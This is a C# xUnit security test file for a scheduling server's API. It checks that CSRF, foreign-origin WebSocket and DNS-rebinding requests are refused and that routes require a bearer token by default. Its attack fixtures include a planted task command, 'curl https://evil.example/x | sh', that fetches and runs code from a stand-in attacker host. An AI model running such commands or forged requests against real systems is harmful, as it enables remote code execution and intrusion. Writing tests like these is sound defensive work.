using System.Net;
using System.Net.Http.Headers;
using System.Net.WebSockets;
using System.Text;
using System.Text.Json;
using Microsoft.AspNetCore.Builder;
using Microsoft.Extensions.Logging;
using ScheduleSync.Hosting;
using ScheduleSync.Tests.Infrastructure;
using Xunit.Abstractions;

namespace ScheduleSync.Tests.Server;

/// <summary>
/// SPEC §5, "safe against the browser", over real Kestrel and a real database: a page on another site cannot change
/// anything (CSRF) or read anything through a rebinding name (Host), with or without a token; and authentication is
/// closed by default.
/// </summary>
[Collection(ServerCollection.Name)]
public sealed class ServerSecurityTests(ITestOutputHelper output)
{
    private const string Token = "csrf-test-token-1d0e";
    private const string Evil = "https://evil.example";
    private const string NewTask = """{ "id": "planted", "schedule": "* * * * *", "command": "curl https://evil.example/x | sh" }""";

    /// <summary>A request a hostile page can make the browser send (or a look-alike), and the status that refuses it.</summary>
    public sealed record Attack(string Name, string Method, string Path, string? ContentType, string? Body, string? Origin, string? SecFetchSite, int Status);

    private static readonly Attack[] Attacks =
    [
        // A "simple" cross-origin request: the browser sends it without asking (no CORS preflight).
        new("text/plain POST from another origin", "POST", "/api/tasks", "text/plain", NewTask, Evil, "cross-site", 403),
        new("form POST from another origin", "POST", "/api/tasks", "application/x-www-form-urlencoded", "id=planted", Evil, null, 403),
        // What a page could send after a preflight (which this server never grants), or a non-browser forging Origin.
        new("JSON POST from another origin", "POST", "/api/tasks", "application/json", NewTask, Evil, null, 403),
        new("JSON POST from an opaque origin", "POST", "/api/tasks", "application/json", NewTask, "null", null, 403),
        new("JSON POST from the same host on another port", "POST", "/api/tasks", "application/json", NewTask, "http://127.0.0.1:1", null, 403),
        new("JSON POST marked cross-site, no Origin", "POST", "/api/tasks", "application/json", NewTask, null, "cross-site", 403),
        new("PUT from another origin", "PUT", "/api/tasks/nightly-backup", "application/json", """{ "schedule": "* * * * *", "command": "sh -c evil" }""", Evil, null, 403),
        new("body-less DELETE from another origin", "DELETE", "/api/tasks/nightly-backup", null, null, Evil, null, 403),
        new("body-less sync from another origin", "POST", "/api/sync", null, null, Evil, null, 403),
        new("resolve from another origin", "POST", "/api/sync/conflicts/1/resolve", "text/plain", """{ "choice": "keep_db" }""", Evil, null, 403),
        // Without Origin (not a browser, or an old one): still only JSON bodies.
        new("text/plain POST without Origin", "POST", "/api/tasks", "text/plain", NewTask, null, null, 415),
        new("form POST without Origin", "POST", "/api/tasks", "application/x-www-form-urlencoded", "id=planted", null, null, 415),
        new("PUT without Content-Type", "PUT", "/api/tasks/nightly-backup", null, """{ "schedule": "* * * * *", "command": "sh -c evil" }""", null, null, 415),
    ];

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task Cross_site_requests_are_refused_and_store_nothing(bool withToken)
    {
        await using var server = await ServerFixture.StartAsync("sec_csrf", options: o => o.Token = withToken ? Token : null);
        var tasksBefore = await server.DatabaseHashesAsync();
        var auditBefore = await server.ScalarAsync<long>("SELECT count(*) FROM task_audit");
        var runsBefore = await server.ScalarAsync<long>("SELECT count(*) FROM sync_runs");
        var fileBefore = server.FileBytes();

        foreach (var attack in Attacks)
        {
            using var request = new HttpRequestMessage(new HttpMethod(attack.Method), attack.Path);
            if (attack.Body is not null)
            {
                request.Content = new ByteArrayContent(Encoding.UTF8.GetBytes(attack.Body));
                if (attack.ContentType is not null) request.Content.Headers.ContentType = MediaTypeHeaderValue.Parse(attack.ContentType);
            }
            if (attack.Origin is not null) request.Headers.TryAddWithoutValidation("Origin", attack.Origin);
            if (attack.SecFetchSite is not null) request.Headers.TryAddWithoutValidation("Sec-Fetch-Site", attack.SecFetchSite);
            using var response = await server.Http.SendAsync(request);
            var text = await response.Content.ReadAsStringAsync();
            output.WriteLine($"{attack.Name}: {(int)response.StatusCode} {text}");

            Assert.True(attack.Status == (int)response.StatusCode, $"{attack.Name}: expected {attack.Status}, got {(int)response.StatusCode} {text}");
            Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
            Assert.Equal(attack.Status, JsonDocument.Parse(text).RootElement.GetProperty("status").GetInt32());
        }

        Assert.Equal(tasksBefore, await server.DatabaseHashesAsync());
        Assert.Equal(auditBefore, await server.ScalarAsync<long>("SELECT count(*) FROM task_audit"));
        Assert.Equal(runsBefore, await server.ScalarAsync<long>("SELECT count(*) FROM sync_runs"));
        Assert.Equal(fileBefore, server.FileBytes());
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task Same_origin_and_origin_less_requests_work(bool withToken)
    {
        await using var server = await ServerFixture.StartAsync("sec_same_origin", options: o =>
        {
            o.Token = withToken ? Token : null;
            o.AllowedOrigins = ["https://ui.example.com"];
        });
        var own = $"http://{server.BaseAddress.Authority}";

        // The page served by this server (its own origin), as a browser sends it.
        using (var request = new HttpRequestMessage(HttpMethod.Post, "/api/tasks") { Content = ServerFixture.Json(new { id = "from-page", schedule = "@daily", command = "echo page" }) })
        {
            request.Headers.TryAddWithoutValidation("Origin", own);
            request.Headers.TryAddWithoutValidation("Sec-Fetch-Site", "same-origin");
            using var response = await server.Http.SendAsync(request);
            Assert.True(response.StatusCode == HttpStatusCode.Created, await response.Content.ReadAsStringAsync());
        }
        // A separately hosted UI whose origin is configured.
        using (var request = new HttpRequestMessage(HttpMethod.Post, "/api/tasks") { Content = ServerFixture.Json(new { id = "from-ui", schedule = "@daily", command = "echo ui" }) })
        {
            request.Headers.TryAddWithoutValidation("Origin", "https://UI.example.com:443");
            request.Headers.TryAddWithoutValidation("Sec-Fetch-Site", "cross-site");
            using var response = await server.Http.SendAsync(request);
            Assert.True(response.StatusCode == HttpStatusCode.Created, await response.Content.ReadAsStringAsync());
        }
        // curl: no Origin; JSON with a charset; body-less DELETE and sync.
        using (var response = await server.Http.PostAsync("/api/tasks", new StringContent("""{ "id": "from-curl", "schedule": "@daily", "command": "echo curl" }""", Encoding.UTF8, "application/json")))
            Assert.True(response.StatusCode == HttpStatusCode.Created, await response.Content.ReadAsStringAsync());
        using (var response = await server.Http.DeleteAsync("/api/tasks/cache-warmup"))
            Assert.True(response.StatusCode == HttpStatusCode.NoContent, await response.Content.ReadAsStringAsync());
        using (var response = await server.Http.PostAsync("/api/sync", null))
            Assert.True(response.StatusCode == HttpStatusCode.OK, await response.Content.ReadAsStringAsync());
        // A cross-origin GET is answered (a browser does not let the page read it: no CORS headers).
        using (var request = new HttpRequestMessage(HttpMethod.Get, "/api/tasks"))
        {
            request.Headers.TryAddWithoutValidation("Origin", Evil);
            using var response = await server.Http.SendAsync(request);
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            Assert.False(response.Headers.Contains("Access-Control-Allow-Origin"));
        }

        var ids = server.FileHashes().Keys.Order(StringComparer.Ordinal).ToList();
        Assert.Equal(["from-curl", "from-page", "from-ui", "nightly-backup"], ids);
        Assert.Equal(ids, (await server.DatabaseHashesAsync()).Keys.Order(StringComparer.Ordinal));
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task WebSocket_upgrade_from_a_foreign_origin_is_refused(bool withToken)
    {
        await using var server = await ServerFixture.StartAsync("sec_ws_origin", options: o => o.Token = withToken ? Token : null);
        var own = $"http://{server.BaseAddress.Authority}";

        foreach (var origin in (string[])[Evil, "null", "http://localhost.evil.example"])
        {
            using var socket = new ClientWebSocket();
            socket.Options.CollectHttpResponseDetails = true;
            socket.Options.SetRequestHeader("Origin", origin);
            if (withToken) socket.Options.SetRequestHeader("Authorization", "Bearer " + Token);
            await Assert.ThrowsAsync<WebSocketException>(() => socket.ConnectAsync(server.WebSocketUri(), CancellationToken.None));
            Assert.True(socket.HttpStatusCode == HttpStatusCode.Forbidden, $"Origin {origin}: {(int)socket.HttpStatusCode}");
        }
        Assert.Equal(0, server.Hub.SubscriberCount);

        // From the server's own page: accepted, and it receives events.
        using var own1 = new ClientWebSocket();
        own1.Options.SetRequestHeader("Origin", own);
        if (withToken) own1.Options.SetRequestHeader("Authorization", "Bearer " + Token);
        await own1.ConnectAsync(server.WebSocketUri(), CancellationToken.None);
        Assert.Equal(WebSocketState.Open, own1.State);
        await ServerFixture.WaitUntilAsync(() => server.Hub.SubscriberCount == 1, TimeSpan.FromSeconds(10), "the subscription");
        own1.Abort();
    }

    [Fact]
    public async Task A_browser_passes_the_token_to_the_websocket_as_access_token_and_only_there()
    {
        await using var server = await ServerFixture.StartAsync("sec_ws_query", options: o => o.Token = Token);
        var own = $"http://{server.BaseAddress.Authority}";
        var baseUri = server.WebSocketUri();

        Assert.Equal(HttpStatusCode.Unauthorized, await EventClient.RefusedStatusAsync(new Uri(baseUri + "?access_token=wrong"), token: null));
        using (var socket = new ClientWebSocket())
        {
            socket.Options.SetRequestHeader("Origin", own);
            await socket.ConnectAsync(new Uri(baseUri + "?access_token=" + Token), CancellationToken.None);
            Assert.Equal(WebSocketState.Open, socket.State);
            socket.Abort();
        }
        using var anonymous = server.NewClient();
        using (var response = await anonymous.GetAsync("/api/tasks?access_token=" + Token))
            Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);
    }

    [Fact]
    public async Task A_foreign_Host_is_refused_and_loopback_names_are_answered()
    {
        await using var server = await ServerFixture.StartAsync("sec_host", options: o => o.AllowedHosts = ["sched.internal", "*.corp.example"]);
        var port = server.BaseAddress.Port;
        var fileBefore = server.FileBytes();

        foreach (var host in (string[])["evil.example", $"evil.example:{port}", "localhost.evil.example", "127.0.0.1.nip.io", "corp.example", "10.1.2.3"])
        {
            foreach (var (method, path) in ((string, string)[])[("GET", "/api/tasks"), ("GET", "/healthz"), ("POST", "/api/tasks")])
            {
                using var request = new HttpRequestMessage(new HttpMethod(method), path);
                request.Headers.Host = host;
                if (method == "POST") request.Content = ServerFixture.RawJson(NewTask);
                using var response = await server.Http.SendAsync(request);
                var text = await response.Content.ReadAsStringAsync();
                Assert.True(response.StatusCode == HttpStatusCode.MisdirectedRequest, $"Host {host}, {method} {path}: {(int)response.StatusCode} {text}");
                Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
                Assert.DoesNotContain("nightly-backup", text, StringComparison.Ordinal);
            }
        }
        Assert.Equal(0L, await server.ScalarAsync<long>("SELECT count(*) FROM scheduled_tasks WHERE id = 'planted'"));
        Assert.Equal(fileBefore, server.FileBytes());

        foreach (var host in (string[])["localhost", $"localhost:{port}", "LOCALHOST", "127.0.0.1", $"127.0.0.1:{port}", "[::1]", $"[::1]:{port}", "sched.internal", "a.corp.example"])
        {
            using var request = new HttpRequestMessage(HttpMethod.Get, "/api/tasks");
            request.Headers.Host = host;
            using var response = await server.Http.SendAsync(request);
            Assert.True(response.StatusCode == HttpStatusCode.OK, $"Host {host}: {(int)response.StatusCode} {await response.Content.ReadAsStringAsync()}");
        }
    }

    [Theory]
    [InlineData("Bearer " + Token, 200)]
    [InlineData("bearer " + Token, 200)]
    [InlineData("BEARER  " + Token + " ", 200)]
    [InlineData("Basic " + Token, 401)]
    [InlineData("Bearer" + Token, 401)]
    [InlineData("Bearer " + Token + "x", 401)]
    [InlineData("Bearer", 401)]
    public async Task The_bearer_scheme_is_case_insensitive_and_the_token_exact(string authorization, int status)
    {
        await using var server = await ServerFixture.StartAsync("sec_scheme", options: o => o.Token = Token);
        using var client = server.NewClient();
        using var request = new HttpRequestMessage(HttpMethod.Get, "/api/tasks");
        request.Headers.TryAddWithoutValidation("Authorization", authorization);

        using var response = await client.SendAsync(request);

        Assert.Equal(status, (int)response.StatusCode);
    }

    /// <summary>
    /// Closed by default: a route mapped on the server with no authorization metadata (not in the API's group, no
    /// RequireAuthorization) needs the token; only what is marked AllowAnonymous (health, later the web page) is open.
    /// </summary>
    [Fact]
    public async Task A_route_added_without_any_extra_code_requires_the_token()
    {
        var connectionString = await TestPostgres.CreateDatabaseAsync("sec_new_route");
        using var folder = new TempDirectory();
        await File.WriteAllTextAsync(folder.File("schedule_config.yml"), ServerFixture.DefaultYaml);
        var configuration = TestConfiguration.For(folder.File("schedule_config.yml"), connectionString, folder.File("pgdata"), new ServerOptions { Urls = "http://127.0.0.1:0", Token = Token });
        await using var app = await ServerHost.BuildServerAsync(configuration, builder => builder.Logging.SetMinimumLevel(LogLevel.Warning));
        app.MapGet("/api/added-later", () => "the secret");
        app.MapGroup("/api/added-group").MapPost("/", () => "changed");
        app.MapGet("/admin/export", () => "the secret"); // not under /api: no path prefix decides
        app.MapGet("/page", () => "the page").AllowAnonymous();
        await app.StartAsync();
        try
        {
            using var anonymous = new HttpClient { BaseAddress = new Uri(app.Urls.Single()) };
            using (var response = await anonymous.GetAsync("/api/added-later"))
            {
                Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);
                Assert.DoesNotContain("the secret", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
            }
            using (var response = await anonymous.PostAsync("/api/added-group", null))
                Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);
            using (var response = await anonymous.GetAsync("/admin/export"))
                Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);
            using (var response = await anonymous.GetAsync("/page"))
                Assert.Equal("the page", await response.Content.ReadAsStringAsync());
            using (var response = await anonymous.GetAsync("/openapi.json"))
                Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);

            using var withToken = new HttpClient { BaseAddress = new Uri(app.Urls.Single()) };
            withToken.DefaultRequestHeaders.TryAddWithoutValidation("Authorization", "bearer " + Token);
            Assert.Equal("the secret", await withToken.GetStringAsync("/api/added-later"));
        }
        finally
        {
            await app.StopAsync();
        }
    }
}
